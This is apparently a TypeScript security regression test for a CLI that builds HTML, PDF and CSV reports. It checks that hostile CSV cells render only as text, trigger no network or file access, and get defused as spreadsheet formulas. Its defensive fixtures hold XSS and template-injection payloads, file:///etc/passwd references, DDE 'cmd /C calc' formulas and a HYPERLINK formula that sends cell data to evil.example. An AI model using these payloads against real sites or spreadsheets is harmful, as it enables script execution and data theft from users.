// Hostile cells through the real pipeline (issue #7): `node bin/svreport.js build` on a CSV whose
// titles, creators, categories, platforms, countries, hashtags and even column names carry markup,
// template syntax, javascript: links and references to a local HTTP server and to local files.
// The HTML must show them as text only, the PDF (printed by the real browser) must show them as
// text and make no request at all, and filtered.csv must defuse spreadsheet formulas.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { resolveBrowserExecutable } from '../src/output/browser.ts';
import { runCli, type CliRun } from './helpers/cli.ts';

type Run = CliRun;
const cli = (args: string[], cwd: string, env: NodeJS.ProcessEnv = {}) => runCli(args, cwd, env);

function csvCell(s: string): string {
  return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
}
const toCsv = (rows: string[][]) => rows.map((r) => r.map(csvCell).join(',')).join('\n') + '\n';

// ---------------------------------------------------------------------------
// Payloads

const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '</script><script>alert(1)</script>',
  '{{constructor.constructor}}',
  'javascript:alert(document.domain)',
  "'><a href=javascript:alert(2)>click</a>",
  '<style>body{display:none}</style>',
  '{{#with "s" as |s|}}{{s}}{{/with}}',
  '&lt;b&gt;pre-escaped&lt;/b&gt;',
  '\u202eRTL override',
];

/** Cells that would make a browser fetch something, if they ever became markup. */
function networkPayloads(u: string): string[] {
  return [
    `<img src="${u}/img">`,
    `<link rel="prefetch" href="${u}/prefetch">`,
    `<link rel="stylesheet" href="${u}/css">`,
    `<iframe src="${u}/iframe"></iframe>`,
    `<object data="${u}/object"></object>`,
    `<embed src="${u}/embed">`,
    `<style>@import url(${u}/import);</style>`,
    `<div style="background:url(${u}/bg)">bg</div>`,
    `<svg><image href="${u}/svg-image"/></svg>`,
    `<meta http-equiv="refresh" content="0;url=${u}/refresh">`,
    `<video poster="${u}/poster"></video>`,
    `<img src="${u.replace('http', 'HTTP')}/upper">`,
    `<iframe src="file:///etc/passwd"></iframe>`,
    `<img src="file:///etc/passwd">`,
    `<object data="file:///etc/passwd"></object>`,
    `<link rel=prefetch href=file:///etc/passwd>`,
  ];
}

/** A 48-row dataset over seven weeks; hostile text in every text column, and in a column name. */
function hostileDataset(port: number): string {
  const u = `http://127.0.0.1:${port}`;
  const net = networkPayloads(u);
  const all = [...MARKUP, ...net];
  const header = ['title', 'creator', 'platform', 'category', 'country', 'hashtags', 'views', 'likes', 'comments', 'shares', 'publish_date', 'duration_sec', `<img src="${u}/header">`];
  const rows: string[][] = [];
  for (let i = 0; i < 48; i++) {
    const p = (k: number) => all[(i + k) % all.length];
    rows.push([
      p(0),
      i < 12 ? MARKUP[i % MARKUP.length] : p(3),
      i % 3 === 0 ? p(5) : 'TikTok',
      p(7),
      i % 4 === 0 ? p(9) : 'US',
      `#ok,${p(11).replaceAll(',', ' ')}`,
      String(1_000_000 - i * 10_000), // the first rows lead every ranking
      String(10_000 + i),
      String(100 + i),
      String(50 + i),
      new Date(Date.UTC(2025, 0, 1 + i)).toISOString().slice(0, 10),
      String(15 + i),
      p(13),
    ]);
  }
  return toCsv([header, ...rows]);
}

// ---------------------------------------------------------------------------
// The local server that must see nothing

let server: http.Server;
let port = 0;
const requests: string[] = [];
let connections = 0;

let chromium: string | null = null;
try {
  chromium = resolveBrowserExecutable({}).path;
} catch {
  chromium = null;
}

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'svreport-hostile-render-'));
let built: { dir: string; run: Run } | null = null;

/** One real build (html, pdf, json, csv) of the hostile dataset, shared by the assertions below. */
async function build(): Promise<{ dir: string; run: Run }> {
  if (built) return built;
  const dir = path.join(tmp, 'build');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'data.csv'), hostileDataset(port));
  fs.writeFileSync(path.join(dir, 'c.yaml'), 'input:\n  path: data.csv\noutput:\n  dir: "out/{report}"\nsections:\n  explorer:\n    previewRows: 48\n');
  const formats = chromium ? 'html,pdf,json,csv' : 'html,json,csv';
  const title = `<img src="http://127.0.0.1:${port}/title"> & {{title}}`;
  const run = await cli(['build', '--config', 'c.yaml', '--quiet', '--format', formats, '--set', `title=${title}`], dir, chromium ? { PUPPETEER_EXECUTABLE_PATH: chromium } : {});
  built = { dir, run };
  return built;
}

const squash = (s: string) => s.replace(/[\s\u200b-\u200f\u202a-\u202e\u2066-\u2069]+/g, '');

const render = suite('hostile render: cells are text in HTML and PDF, and reach nothing');

render.before(async () => {
  server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.end('<p>SERVER-CONTENT</p>');
  });
  server.on('connection', (s: Socket) => {
    connections++;
    s.on('error', () => {});
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  port = (server.address() as AddressInfo).port;
});

render.after(async () => {
  await new Promise<void>((done) => server.close(() => done()));
  fs.rmSync(tmp, { recursive: true, force: true });
});

render('the build succeeds on hostile cells', async () => {
  const { run } = await build();
  assert.is(run.code, 0, run.stderr);
  assert.is(run.stderr, '');
});

render('HTML: no markup, script, style, link or URL comes from a cell', async () => {
  const { dir } = await build();
  const html = fs.readFileSync(path.join(dir, 'out/report/report.html'), 'utf8');
  // the only elements of these kinds are the report's own
  for (const tag of ['script', 'img', 'iframe', 'object', 'embed', 'link', 'video', 'image', 'base', 'form', 'a ']) {
    const n = (html.match(new RegExp(`<${tag}`, 'gi')) ?? []).length;
    if (tag === 'a ') assert.is(n, 1, 'one link: to filtered.csv');
    else assert.is(n, 0, `<${tag}> in the report`);
  }
  assert.is((html.match(/<style/gi) ?? []).length, 1, 'one style element, the report\'s own');
  assert.is((html.match(/<meta http-equiv/gi) ?? []).length, 1, 'one http-equiv meta: the CSP');
  assert.not.match(html, /<meta[^>]+refresh/i);
  const pairs = attributes(html);
  const attrs = new Set(pairs.map(([n]) => n));
  assert.ok(attrs.size > 10);
  for (const a of attrs) assert.not.match(a, /^on/i, `event handler attribute ${a}`);
  for (const a of attrs) assert.match(a, /^[a-z][a-z0-9:-]*$/i, `odd attribute name ${a}`);
  const hrefs = pairs.filter(([n]) => /^(?:href|src|xlink:href|action|formaction|data|poster|srcset|background)$/i.test(n)).map(([, v]) => v);
  assert.ok(hrefs.length >= 1);
  for (const h of hrefs) assert.ok(h === 'filtered.csv' || h.startsWith('#'), `unexpected URL attribute ${h}`);
  // CSS (the style element and style attributes) loads nothing: no url() but data: and fragments, no @import
  const css = [/<style>([\s\S]*?)<\/style>/.exec(html)?.[1] ?? '', ...pairs.filter(([n]) => n === 'style').map(([, v]) => v)].join('\n');
  for (const m of css.matchAll(/url\(\s*['"]?([^'")]*)/gi)) assert.match(m[1], /^(?:data:|#)/, `CSS url(${m[1]})`);
  assert.not.match(css, /@import/i);
  // what the cells said is there, as text
  assert.ok(html.includes('&lt;img src=x onerror=alert(1)&gt;'));
  assert.ok(html.includes('&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;'));
  assert.ok(html.includes('{{constructor.constructor}}'), 'template syntax printed literally');
  assert.ok(html.includes('javascript:alert(document.domain)'));
  assert.ok(html.includes('&amp;lt;b&amp;gt;pre-escaped'), 'pre-escaped text stays text');
  assert.ok(html.includes(`&lt;img src=&quot;http://127.0.0.1:${port}/title&quot;&gt; &amp; {{title}}`), 'the title too');
  // and inside the charts (SVG text is escaped by vega)
  const svgs = html.match(/<svg[\s\S]*?<\/svg>/g) ?? [];
  assert.ok(svgs.length > 10);
  for (const svg of svgs) assert.not.match(svg, /<(?:script|foreignObject|image|a)\b/i);
});

render('PDF: the printer made no request to the local server and read no local file', async () => {
  if (!chromium) return console.log('  skipped: no chromium');
  const { dir, run } = await build();
  assert.is(run.code, 0, run.stderr);
  assert.equal(requests, [], 'no HTTP request reached 127.0.0.1');
  assert.is(connections, 0, 'no TCP connection reached 127.0.0.1');
  const pdf = path.join(dir, 'out/report/report.pdf');
  const text = spawnSync('pdftotext', [pdf, '-'], { encoding: 'utf8', maxBuffer: 64 << 20 });
  assert.is(text.status, 0, text.stderr);
  assert.not.match(text.stdout, /root:.*:0:0:/, '/etc/passwd is not in the PDF');
  assert.not.ok(text.stdout.includes('SERVER-CONTENT'));
  const bytes = fs.readFileSync(pdf).toString('latin1');
  assert.not.match(bytes, /\/(?:JavaScript|JS|Launch|SubmitForm|ImportData)\b/, 'no active PDF actions');
  assert.not.match(bytes, /\/URI\s*\((?!filtered\.csv)/, 'no link annotation except to filtered.csv');
});

render('PDF: markup in cells is printed as text', async () => {
  if (!chromium) return console.log('  skipped: no chromium');
  const { dir } = await build();
  const text = squash(spawnSync('pdftotext', [path.join(dir, 'out/report/report.pdf'), '-'], { encoding: 'utf8', maxBuffer: 64 << 20 }).stdout);
  for (const cell of ['<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', '</script><script>alert(1)</script>', '{{constructor.constructor}}', 'javascript:alert(document.domain)']) {
    assert.ok(text.includes(squash(cell)), `PDF shows ${cell} as text`);
  }
  assert.ok(text.includes(squash(`<img src="http://127.0.0.1:${port}/title"> & {{title}}`)), 'the title, as text');
});

render('filtered.csv: formulas defused, numbers and plain text untouched', async () => {
  const dir = path.join(tmp, 'formulas');
  fs.mkdirSync(dir, { recursive: true });
  const header = ['title', 'creator', 'category', 'views', 'likes', 'publish_date', 'note'];
  const cells = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '=1+1',
    '-10',
    '+5',
    '-1.5e3',
    '-12%',
    'plain = text',
    ' =leading space',
  ];
  const rows = cells.map((c, i) => [c, `creator ${i}`, c, String(1000 + i), String(-(i + 1)), `2025-01-${String(1 + i).padStart(2, '0')}`, c]);
  fs.writeFileSync(path.join(dir, 'data.csv'), toCsv([[...header.slice(0, 6), '=cmd header'], ...rows]));
  fs.writeFileSync(path.join(dir, 'c.yaml'), 'input:\n  path: data.csv\noutput:\n  dir: "out/{report}"\n');
  const run = await cli(['build', '--config', 'c.yaml', '--quiet', '--format', 'csv'], dir);
  assert.is(run.code, 0, run.stderr);
  const out = fs.readFileSync(path.join(dir, 'out/report/filtered.csv'), 'utf8');
  const parsed = parseCsv(out);
  assert.equal(parsed[0], [...header.slice(0, 6), "'=cmd header"]);
  const expect = (c: string) => (/^[=+\-@\t\r]/.test(c) && !/^[+-][\d.]+(e\d+)?%?$/.test(c) ? `'${c}` : c);
  assert.is(parsed.length, 1 + cells.length);
  for (let i = 0; i < cells.length; i++) {
    const row = parsed[1 + i];
    assert.is(row[0], expect(cells[i]), `title ${JSON.stringify(cells[i])}`);
    assert.is(row[2], expect(cells[i]));
    assert.is(row[6], expect(cells[i]));
    assert.is(row[4], String(-(i + 1)), 'negative numbers stay numbers');
  }
  // no cell of the file starts a formula
  for (const row of parsed) for (const c of row) assert.not.match(c, /^[=@\t\r]|^[+-](?![\d.]+(?:e\d+)?%?$)/, `cell ${JSON.stringify(c)}`);
});

/** Every attribute of every start tag, as [name, value] (quoted values skipped, so text inside them is no attribute). */
function attributes(html: string): [string, string][] {
  const out: [string, string][] = [];
  const tag = /<([a-zA-Z][\w:-]*)((?:\s+[^\s=>/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?)*)\s*\/?>/g;
  const attr = /\s([^\s=>/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+))?/g;
  for (const m of html.matchAll(tag)) {
    for (const a of m[2].matchAll(attr)) out.push([a[1], (a[2] ?? '').replace(/^["']|["']$/g, '')]);
  }
  return out;
}

/** A small RFC 4180 reader for the assertions (quotes, doubled quotes, CR/LF inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (q) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') q = false;
      else cell += c;
    } else if (c === '"') q = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += c;
  }
  if (cell !== '' || row.length) row.push(cell), rows.push(row);
  return rows;
}

render.run();
